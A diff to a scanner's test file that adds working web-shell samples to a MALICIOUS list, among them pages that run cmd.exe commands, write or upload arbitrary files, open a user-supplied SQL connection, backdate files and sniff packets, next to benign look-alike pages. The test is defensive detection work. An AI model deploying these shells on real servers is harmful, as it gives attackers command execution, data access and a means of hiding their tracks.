@@ -24,6 +24,11 @@ const MALICIOUS: [string, string, string][] = [
   ['an ASP.NET web service (.soap) whose methods run programs and manage files', '/inetpub/wwwroot/h.soap', `<%@ WebService Language="C#" Class="Svc" %>\nusing System; using System.IO; using System.Diagnostics; using System.Web.Services;\npublic class Svc : WebService {\n  [WebMethod] public string Run(string a, string b) {\n    if (a == "L") return string.Join(",", Directory.GetLogicalDrives());\n    if (a == "D") { File.Delete(b); return "ok"; }\n    if (a == "W") { File.WriteAllText(b, "x"); return "ok"; }\n    var p = new ProcessStartInfo("cmd.exe", "/c " + b) { RedirectStandardOutput = true, UseShellExecute = false };\n    return Process.Start(p).StandardOutput.ReadToEnd();\n  }\n}\n`],
   ['JSP writing the request\'s text to the request\'s path with RandomAccessFile, in one statement', '/var/lib/tomcat/webapps/ROOT/i.jsp', `<%new java.io.RandomAccessFile(application.getRealPath("/") + request.getParameter("n"), "rw").write(request.getParameter("t").getBytes());%>`],
   ['VB.NET saving an upload where the request says, its strings in typographic quotes', '/inetpub/wwwroot/j.aspx', `<% If Request.Files.Count > 0 Then Request.Files(0).SaveAs(Server.MapPath(Request(\u201cn\u201d))) %>`],
+  ['a WebForms page whose text boxes give the connection string and the query', '/inetpub/wwwroot/u.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\nvoid Go(object s, EventArgs e) {\n  var db = new SqlConnection();\n  db.ConnectionString = boxConn.Text;\n  db.Open();\n  var cmd = new SqlCommand(boxSql.Text, db);\n  grid.DataSource = cmd.ExecuteReader(); grid.DataBind();\n}\n</script>\n<form runat="server"><asp:TextBox id="boxConn" runat="server"/><asp:TextBox id="boxSql" runat="server" TextMode="MultiLine"/><asp:Button runat="server" OnClick="Go" Text="Run"/><asp:GridView id="grid" runat="server"/></form>`],
+  ['classic ASP backdating files through Shell.Application', '/inetpub/wwwroot/v.asp', `<%\nSet sh = Server.CreateObject("Shell.Application")\nSet dir = sh.NameSpace(Request.Form("dir"))\nSet item = dir.ParseName(Request.Form("name"))\nitem.ModifyDate = Request.Form("when")\nResponse.Write "ok"\n%>`],
+  ['an ASP.NET page storing an upload under the client\'s name in its own folder', '/inetpub/wwwroot/w.aspx', `<%@ Page Language="C#" %>\n<% if (Request.Files.Count == 1) { var f = Request.Files[0]; var here = new System.IO.FileInfo(Request.PhysicalPath).DirectoryName; using (var fs = new System.IO.FileStream(System.IO.Path.Combine(here, System.IO.Path.GetFileName(f.FileName)), System.IO.FileMode.Create)) f.InputStream.CopyTo(fs); Response.Write("saved"); } %>`],
+  ['JSP registering a WebSocket endpoint at run time at the path the request names', '/var/lib/tomcat/webapps/ROOT/x.jsp', `<%@ page import="javax.websocket.*,javax.websocket.server.*" %>\n<%! public static class E extends Endpoint { public void onOpen(Session s, EndpointConfig c) { s.addMessageHandler(new MessageHandler.Whole<String>() { public void onMessage(String m) { try { s.getBasicRemote().sendText(m); } catch (Exception e) {} } }); } } %>\n<% ServerContainer c = (ServerContainer) application.getAttribute(ServerContainer.class.getName()); c.addEndpoint(ServerEndpointConfig.Builder.create(E.class, request.getParameter("p")).build()); out.print("ok"); %>`],
+  ['an ASP.NET page capturing every packet with a raw socket', '/inetpub/wwwroot/y.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<% var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP); s.Bind(new IPEndPoint(IPAddress.Parse(Request["ip"]), 0)); s.IOControl(IOControlCode.ReceiveAll, new byte[] { 1, 0, 0, 0 }, null); var buf = new byte[65535]; Response.Write(s.Receive(buf)); %>`],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -37,6 +42,11 @@ const LOOKALIKES: [string, string, string][] = [
   ['an ASMX service starting a fixed program, touching no files', '/inetpub/wwwroot/r.asmx', `<%@ WebService Language="C#" Class="Jobs" %>\nusing System.Diagnostics; using System.Web.Services;\npublic class Jobs : WebService {\n  [WebMethod] public int Reindex() { var p = Process.Start("C:\\\\tools\\\\reindex.exe"); p.WaitForExit(); return p.ExitCode; }\n}\n`],
   ['JSP reading the tail of a fixed log with RandomAccessFile', '/var/lib/tomcat/webapps/ROOT/s.jsp', `<%java.io.RandomAccessFile f = new java.io.RandomAccessFile("/var/log/app/app.log", "r"); f.seek(Math.max(0, f.length() - 4096)); out.print(f.readLine()); f.close();%>`],
   ['a C# page with typographic quotes in its text', '/inetpub/wwwroot/t.aspx', `<%@ Page Language="C#" %>\n<% string tip = "Press \u201cSave\u201d to keep it"; Response.Write(Server.HtmlEncode(tip)); Request.Files[0].SaveAs(Server.MapPath("~/App_Data/" + Guid.NewGuid())); %>`],
+  ['a WebForms report page running the text box\'s query on the configured connection', '/inetpub/wwwroot/z.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\nvoid Go(object s, EventArgs e) {\n  var db = new SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings["reports"].ConnectionString);\n  db.Open();\n  var cmd = new SqlCommand("select * from report where name = @n", db);\n  cmd.Parameters.AddWithValue("@n", boxName.Text);\n  grid.DataSource = cmd.ExecuteReader(); grid.DataBind();\n}\n</script>`],
+  ['classic ASP listing files with their modification dates', '/inetpub/wwwroot/aa.asp', `<%\nSet sh = Server.CreateObject("Shell.Application")\nSet dir = sh.NameSpace(Server.MapPath("docs"))\nSet item = dir.ParseName("report.pdf")\nResponse.Write item.ModifyDate\n%>`],
+  ['an ASP.NET upload stored under a new name in App_Data', '/inetpub/wwwroot/bb.aspx', `<%@ Page Language="C#" %>\n<% if (Request.Files.Count == 1) { var f = Request.Files[0]; var dir = Server.MapPath("~/App_Data/uploads"); f.SaveAs(System.IO.Path.Combine(dir, Guid.NewGuid().ToString("N") + ".bin")); Response.Write(System.IO.Path.GetFileName(f.FileName)); } %>`],
+  ['JSP showing whether the WebSocket container is there', '/var/lib/tomcat/webapps/ROOT/cc.jsp', `<%@ page import="javax.websocket.server.ServerContainer" %>\n<% Object c = application.getAttribute(ServerContainer.class.getName()); out.print(c != null ? "websockets on" : "websockets off"); %>`],
+  ['an ASP.NET ping page with a raw ICMP socket', '/inetpub/wwwroot/dd.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<% var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Icmp); s.ReceiveTimeout = 1000; Response.Write(s.ProtocolType); s.Close(); %>`],
 ];
 
 describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
@@ -46,7 +56,7 @@ describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 12));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 17));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -54,5 +64,5 @@ describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 10));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 15));
 });
